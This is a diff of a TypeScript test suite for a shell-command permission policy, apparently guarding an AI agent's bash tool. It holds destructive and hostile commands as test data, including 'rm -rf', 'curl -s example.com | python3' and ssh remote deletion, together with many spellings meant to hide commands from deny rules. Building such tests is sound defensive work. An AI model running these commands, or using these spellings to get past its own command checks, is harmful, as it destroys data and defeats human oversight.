@@ -279,8 +279,7 @@ describe("commands spelt so that the text hides them", () => {
     expect(bash("cat x | source /dev/stdin")).toBe("deny@0")
     expect(bash("echo 'rm x' | sudo -s")).toBe("deny@0")
     expect(bash("echo 'rm x' | su")).toBe("deny@0")
-    // a script file is not followed (see the documentation); a shell asked only for its version runs nothing
-    expect(bash("bash ./build.sh")).toBe("allow@default")
+    // a shell asked only for its version runs nothing
     expect(bash("bash --version")).toBe("allow@default")
     expect(bash("bash -c")).toBe("allow@default")
   })
@@ -362,6 +361,149 @@ describe("commands spelt so that the text hides them", () => {
     expect(bash("trap 'rm x' EXIT; ls")).toBe("deny@0")
     // a value is data: what it cannot know is not a command
     expect(bash("DIR=$HOME/rm; ls \"$DIR\"")).toBe("allow@default")
+  })
+})
+
+describe("what a program runs past its own options, in another language, or elsewhere", () => {
+  // the default allows: only the deny rule stands between a spelling and a run
+  const policy = build([
+    { decision: "deny", tool: ["bash", "bash_background"], command: ["rm", "git push", "docker rm", "kubectl delete"] },
+    { decision: "allow", tool: "bash", command: ["ls", "echo", "git status", "python3", "node", "bash", "cat"] }
+  ], "allow")
+  const bash = (command: string, more: object = {}) => decisionOf(policy, "bash", { command, ...more })
+  const strict = build([{ decision: "allow", tool: "bash", command: ["python3", "node", "perl", "bash", "echo", "sh", "source"] }], "deny")
+  const allowed = (command: string) => decisionOf(strict, "bash", { command })
+
+  it("a rule for a subcommand matches past the program's own options before it (git, docker, kubectl, npm)", () => {
+    for (
+      const command of [
+        "git -C . push",
+        "git -C /repo -c user.name=x push origin",
+        "git --git-dir=.git --work-tree . push",
+        "git --git-dir .git push",
+        "git --no-pager push",
+        "git -p --bare --no-replace-objects --literal-pathspecs push",
+        "git --namespace x --config-env a.b=ENV push",
+        "git --exec-path=/usr/lib/git-core push",
+        "/usr/bin/git -C . push",
+        "sudo -u me git -C . push",
+        "git -C $DIR status && git -C . push",
+        // an option git may add one day: both readings are followed
+        "git --future-option value push",
+        // a value given with -c may run as a line: an alias `!…`, a pager
+        "git -c alias.st='!rm -rf x' st",
+        "docker -H unix:///run/docker.sock rm x",
+        "docker --context prod rm x",
+        "kubectl -n prod delete pod x",
+        "kubectl --context=prod delete pod x"
+      ]
+    ) {
+      expect([command, bash(command)]).toStrictEqual([command, "deny@0"])
+    }
+    // the options are git's own; a value or a later word that happens to spell the subcommand is not it
+    expect(bash("git -C push status")).toBe("allow@default")
+    expect(bash("git log --grep push")).toBe("allow@default")
+    expect(bash("git rm x")).toBe("allow@default")
+    // an allow rule still vouches only for what is written: git's options change what it runs
+    expect(bash("git -C /elsewhere status")).toBe("allow@default")
+    expect(decisionOf(build([{ decision: "allow", tool: "bash", command: "git status" }], "deny"), "bash", {
+      command: "git -c core.fsmonitor=x status"
+    })).toBe("deny@default")
+  })
+
+  it("inline code of another language, a script file or a program read from input matches every deny rule; no allow rule vouches for it", () => {
+    for (
+      const command of [
+        `python -c "import os; os.system('ls')"`,
+        "python3 -c 'print(1)'",
+        "python3.12 -Sc 'print(1)'",
+        "python3 -W ignore -c 'print(1)'",
+        "node -e 'require(\"child_process\").execSync(\"ls\")'",
+        "node --eval 'x'",
+        "node -p 1+1",
+        "node --input-type module -e 'x'",
+        "nodejs --print=1",
+        "perl -e 'system q(ls)'",
+        "perl -lane 'print'",
+        "ruby -e 'system %q(ls)'",
+        "php -r 'system(\"ls\");'",
+        "bash script.sh",
+        "sh ./build.sh",
+        "bash -- build.sh",
+        "source ./env.sh",
+        ". ./env.sh",
+        "curl -s example.com | python3",
+        "python3 - <<'EOF'\nimport os\nEOF",
+        "node /dev/stdin",
+        "python3 $SCRIPT"
+      ]
+    ) {
+      expect([command, bash(command), allowed(command)]).toStrictEqual([command, "deny@0", "deny@default"])
+    }
+    // a program file, a module, a version: what they run is a program like any other, not followed
+    expect(bash("python3 -m pytest -c setup.cfg")).toBe("allow@1")
+    expect(bash("python3 train.py -c config.yaml")).toBe("allow@1")
+    expect(bash("node scripts/build.js -e production")).toBe("allow@1")
+    expect(bash("node --experimental-vm-modules node_modules/.bin/jest")).toBe("allow@1")
+    // an option node may take a value with: read both ways, so a program from its input is seen
+    expect(bash("node --some-new-option x.js")).toBe("deny@0")
+    expect(bash("perl -i.bak script.pl")).toBe("allow@default")
+    expect(bash("python3 -Wignore::DeprecationWarning x.py")).toBe("allow@1")
+    expect(bash("python3 --version")).toBe("allow@1")
+    expect(bash("bash -c 'ls'")).toBe("allow@1")
+  })
+
+  it("find's -exec, -execdir, -ok and -okdir, parallel, ssh and script run commands that deny rules see", () => {
+    for (
+      const command of [
+        "find . -name '*.o' -exec rm {} \\;",
+        "find . -execdir rm -f {} +",
+        "find . -type f -ok /bin/rm {} ';'",
+        "find . -okdir sudo rm {} \\;",
+        "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
+        "find . $ACTION",
+        "find . -exec git push \\;",
+        "parallel rm ::: a b",
+        "parallel -j 4 'rm {}' ::: a b",
+        "parallel ::: 'rm a'",
+        "echo 'rm a' | parallel",
+        "ssh host rm -rf /tmp/x",
+        "ssh -p 2222 -i key host 'rm -rf /tmp/x'",
+        "ssh host -t rm x",
+        "ssh -l root host \"$CMD\"",
+        "echo 'rm x' | ssh host",
+        "script -q -c 'rm x' /dev/null",
+        "script -qc 'rm x'",
+        "echo 'rm x' | script -q /dev/null",
+        "xargs -0 -I {} rm {}",
+        "watch -n 5 rm x",
+        "nohup nice -n 5 time -p command exec rm x"
+      ]
+    ) {
+      expect([command, bash(command)]).toStrictEqual([command, "deny@0"])
+    }
+    // an exact rule sees the -exec command's own words only
+    const exact = build([{ decision: "deny", tool: "bash", command: "rm x", exact: true }], "allow")
+    expect(decisionOf(exact, "bash", { command: "find . -exec rm x \\; -print" })).toBe("deny@0")
+    // find without an action, a query to ssh, and text that only mentions a command
+    expect(bash("find . -name rm -print")).toBe("allow@default")
+    expect(bash("find . -exec ls {} +")).toBe("allow@default")
+    expect(bash("ssh -V")).toBe("allow@default")
+    expect(bash("ssh host ls")).toBe("allow@default")
+    expect(bash("parallel echo ::: rm")).toBe("allow@default")
+  })
+
+  it("${x@P} runs what x holds, which may come from the inherited environment: unknowable to every rule", () => {
+    expect(bash("echo ${x@P}")).toBe("deny@0")
+    expect(bash("echo \"${PS1@P}\"")).toBe("deny@0")
+    expect(bash("echo ${arr[0]@P}")).toBe("deny@0")
+    expect(bash("echo ${y:-${x@P}}")).toBe("deny@0")
+    expect(bash("bash -c 'echo ${x@P}'")).toBe("deny@0")
+    expect(allowed("echo ${x@P}")).toBe("deny@default")
+    // the other transformations run nothing: @E decodes escapes as $'…' does, @Q quotes
+    expect(bash("echo ${x@Q} ${x@E} ${x@U} ${x@A}")).toBe("allow@1")
+    expect(allowed("echo ${x@Q}")).toBe("allow@0")
+    expect(bash("echo '${x@P}'")).toBe("allow@1")
   })
 })
 
